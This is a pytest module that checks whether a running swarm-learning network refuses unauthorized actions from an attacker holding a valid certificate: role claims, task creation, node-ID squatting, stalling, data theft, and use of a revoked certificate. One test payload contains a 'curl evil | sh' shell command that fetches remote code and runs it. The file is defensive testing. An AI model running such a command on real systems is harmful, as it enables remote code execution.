"""An attacker with one ordinary certificate of the swarm, against a running swarm: real `swarm sn` and
`swarm sl` processes over mutual TLS on 127.0.0.1, the attacker speaking to them directly through the
generated stubs (so what is tested is the servers' refusal, not our CLI's). Every attack is refused by
name, and the honest nodes train on to identical final models.

The policy itself (every kind x every role) is tested on the pure state machine in test_policy.py.
"""

from __future__ import annotations

import grpc
import pytest

from conftest import Procs, identity
from swarm_harness import start_swarm, wait_ml
from swarmlearn.errors import Rejected
from swarmlearn.ledger.signatures import registration, sign_tx
from swarmlearn.proto import sn_pb2, sn_pb2_grpc
from swarmlearn.sl.transport import FetchError, PeerFetcher
from swarmlearn.sn.client import SNClient
from swarmlearn.defaults import DEFAULT_CONTRACT

from test_swarm_failures import LedgerWatch, assert_same, final_models, is_kind

pytestmark = pytest.mark.slow  # the attacks land on a whole swarm that trains

HONEST = ["node1", "node2"]


@pytest.fixture(scope="module")
def swarm(certs, tmp_path_factory):
    """Two honest nodes training (slowly enough for the attacks to land mid-run), and a watch on the
    ledger. Shared by every attack of this module; the honest outcome is checked by the last test."""
    procs = Procs()
    work = tmp_path_factory.mktemp("authority")
    try:
        running = start_swarm(procs, certs, work, HONEST, "tiny_torch_model.py",
                              env={"STEPS": "24", "SYNC_FREQUENCY": "4", "MIN_PEERS": "2", "STEP_SLEEP": "0.15"})
        watch = LedgerWatch(running.sn.address, certs)
        try:
            yield running, watch
        finally:
            watch.close()
    finally:
        procs.stop_all()


@pytest.fixture(scope="module")
def attacker(swarm, certs):
    """The SL certificate of node "attacker", issued by the swarm's own CA, registered as what it is."""
    running, _ = swarm
    client = SNClient(running.sn.address, identity(certs, "sl", "attacker"))
    client.wait_ready(10)
    client.register("SL", "127.0.0.1:1")
    yield client
    client.close()


def raw_submit(address: str, ident, node: str, kind: str, payload: dict) -> grpc.RpcError | None:
    """One signed submission over the generated stub, without the client's retries or translation."""
    signed = sign_tx(ident, node, kind, payload)
    channel = grpc.secure_channel(address, ident.channel_credentials())
    try:
        sn_pb2_grpc.SwarmNetworkStub(channel).Submit(
            sn_pb2.SignedTx(tx=signed.tx.signing_bytes(), signature=signed.signature), timeout=10)
    except grpc.RpcError as exc:
        return exc
    finally:
        channel.close()
    return None


def refused(result, *fragments: str, code=grpc.StatusCode.FAILED_PRECONDITION) -> None:
    assert isinstance(result, grpc.RpcError), "accepted"
    assert result.code() == code, f"{result.code().name}: {result.details()}"
    for fragment in fragments:
        assert fragment in result.details(), result.details()


def test_an_sl_certificate_cannot_create_finalize_or_assign_tasks_for_swops_to_run(swarm, certs, attacker):
    running, _ = swarm
    me = identity(certs, "sl", "attacker")
    task = {"name": "pwn", "type": "RUN_SWARM", "prereq": "ROOTTASK",
            "body": {"Entrypoint": "/bin/sh", "Command": "-c 'curl evil | sh'"}}
    refused(raw_submit(running.sn.address, me, "attacker", "task_create", task), "may be submitted by admin, swci only")
    refused(raw_submit(running.sn.address, me, "attacker", "taskrunner_assign",
                       {"runner": "default", "task": "pwn", "peers": 1}), "attacker is sl")


def test_a_certificate_cannot_claim_another_role(swarm, certs, attacker):
    running, _ = swarm
    me = identity(certs, "sl", "attacker")
    claim = {**registration(me, ""), "role": "SN"}
    refused(raw_submit(running.sn.address, me, "attacker", "register_node", claim), "read from its certificate")
    # As what it is, it still cannot do what an SN, a SWOP, a SWCI or an admin does.
    refused(raw_submit(running.sn.address, me, "attacker", "trust_ca", {"cert": "x", "org": "evil", "roles": ["sl"]}),
            "may be submitted by admin only")
    refused(raw_submit(running.sn.address, me, "attacker", "taskrunner_join", {"runner": "default", "capacity": 9}),
            "may be submitted by swop only")
    refused(raw_submit(running.sn.address, me, "attacker", "contract_reset", {"name": DEFAULT_CONTRACT}),
            "may be submitted by admin, swci only")
    # A SWCI certificate cannot reset the contract everyone trains on either: only an admin may.
    swci = identity(certs, "swci")
    assert raw_submit(running.sn.address, swci, "swci-1", "register_node", registration(swci, "")) is None
    refused(raw_submit(running.sn.address, swci, "swci-1", "contract_reset", {"name": DEFAULT_CONTRACT}),
            "only an admin may reset the default contract")


def test_a_node_id_cannot_be_squatted(swarm, certs, attacker):
    running, _ = swarm
    me = identity(certs, "sl", "attacker")
    refused(raw_submit(running.sn.address, me, "attacker", "register_node",
                       {**registration(me, ""), "node_id": "node7"}), "a node's id is the name in its certificate")
    with SNClient(running.sn.address, identity(certs, "sl", "node7")) as real:  # the real node7 is unaffected
        real.register("SL", "127.0.0.1:2")
        assert real.query("nodes")["nodes"]["node7"]["spiffe_id"] == "spiffe://test/sl/node7"


def test_a_member_cannot_stall_the_swarm_with_min_peers_or_a_declared_size(swarm, certs, attacker):
    running, _ = swarm
    me = identity(certs, "sl", "attacker")
    refused(raw_submit(running.sn.address, me, "attacker", "session_join",
                       {"contract": DEFAULT_CONTRACT, "node": "attacker", "min_peers": 1000}), "min_peers")
    refused(raw_submit(running.sn.address, me, "attacker", "session_join",
                       {"contract": DEFAULT_CONTRACT, "node": "attacker", "min_peers": 100}), "allows at most 16")


def test_a_non_participant_cannot_fetch_a_nodes_unmerged_contribution(swarm, certs, attacker):
    running, watch = swarm
    checkin = watch.wait(is_kind("checkin", node="node1"))
    with SNClient(running.sn.address, identity(certs, "swci")) as c:
        address = c.query("nodes")["nodes"]["node1"]["address"]
    thief = PeerFetcher(identity(certs, "sl", "attacker"))
    try:
        with pytest.raises(FetchError, match="PERMISSION_DENIED: blob .* is served only to the SLs that checked in"):
            thief.fetch(address, checkin.tx.payload["hash"], timeout=10)
    finally:
        thief.close()


def test_a_revoked_certificate_is_refused_by_the_sn(swarm, certs, attacker):
    running, _ = swarm
    # The attacker follows the ledger when its certificate is revoked.
    channel = grpc.secure_channel(running.sn.address, identity(certs, "sl", "attacker").channel_credentials())
    following = sn_pb2_grpc.SwarmNetworkStub(channel).Watch(sn_pb2.WatchRequest(from_index=0), timeout=60)
    assert next(following).index == 0
    admin = SNClient(running.sn.address, identity(certs, "admin"))
    try:
        admin.wait_ready(10)
        admin.register("admin")
        admin.submit("revoke_cert", {"cert_fp": identity(certs, "sl", "attacker").fingerprint, "reason": "test"})
    finally:
        admin.close()
    with pytest.raises(Rejected, match="was revoked at ledger entry"):
        attacker.heartbeat()
    with pytest.raises(Rejected, match="was revoked"):
        attacker.query("info")
    # Its open watch ends too, at the latest within the SN's poll of the ledger.
    try:
        with pytest.raises(grpc.RpcError) as ended:
            for _ in following:
                pass
    finally:
        channel.close()
    refused(ended.value, "watch ended", "was revoked at ledger entry", code=grpc.StatusCode.PERMISSION_DENIED)


def test_after_every_attack_the_honest_nodes_end_with_identical_models(swarm):
    running, _ = swarm
    wait_ml(running, timeout=120)
    assert_same(final_models(running, HONEST))
